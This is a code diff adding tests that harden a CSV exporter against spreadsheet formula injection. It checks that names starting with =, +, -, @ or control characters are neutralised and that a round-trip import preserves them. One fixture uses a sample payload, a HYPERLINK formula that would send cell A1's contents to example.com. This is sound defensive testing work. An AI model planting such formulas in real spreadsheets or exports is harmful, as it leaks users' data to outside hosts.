@@ -78,9 +78,14 @@ onEither('an import', (database) => {
 
   it('of an export changes nothing', async () => {
     const sim = await startSim({ database })
+    const name = '=HYPERLINK("http://example.com/?"&A1)'
+    await sim.world.call('association.create', { account: 'acme', mobile: '13800138009', name })
     const before = await exported(sim)
+    expect(before).toContain('"\'=HYPERLINK(""http://example.com/?""&A1)",+8613800138009')
     const { import: id } = await begins(sim, before)
-    expect(await ends(sim, id)).toMatchObject({ created: 0, updated: 2, refused: 0 })
+    expect(await ends(sim, id)).toMatchObject({ created: 0, updated: 3, refused: 0 })
+    const listed = await sim.world.call('association.list', { mobile: '13800138009' })
+    expect(listed).toMatchObject({ items: [{ name }] })
     expect(await exported(sim)).toBe(before)
   })
 
@@ -134,7 +139,23 @@ it('the call that brings a file is kept without it', async () => {
 describe('CSV', () => {
   it('is read as it was written, whatever stands in it', () => {
     const field = fc.string({
-      unit: fc.constantFrom('a', '赵', '"', ',', ';', '\n', '\r', ' ', '\t'),
+      unit: fc.constantFrom(
+        'a',
+        '赵',
+        '"',
+        ',',
+        ';',
+        '\n',
+        '\r',
+        ' ',
+        '\t',
+        "'",
+        '=',
+        '+',
+        '8',
+        '-',
+        '@',
+      ),
     })
     const rows = fc.array(fc.array(field, { minLength: 2, maxLength: 4 }), { minLength: 1 })
     fc.assert(
@@ -143,6 +164,18 @@ describe('CSV', () => {
         const text = csvOf(all)
         const read = [...readCsv(text)].map(({ fields }) => fields)
         expect(read).toEqual(all.filter((row) => row.some((value) => value !== '')))
+      }),
+    )
+  })
+
+  it('has no field that a spreadsheet would run, to which a number with its sign is that number', () => {
+    const field = fc.string({
+      minLength: 1,
+      unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '8', 'a'),
+    })
+    fc.assert(
+      fc.property(field, (name) => {
+        expect(csvOf([['x', name]])).not.toMatch(/^x,"?(?!\+\d+\r\n$)[=+\-@\t\r]/u)
       }),
     )
   })
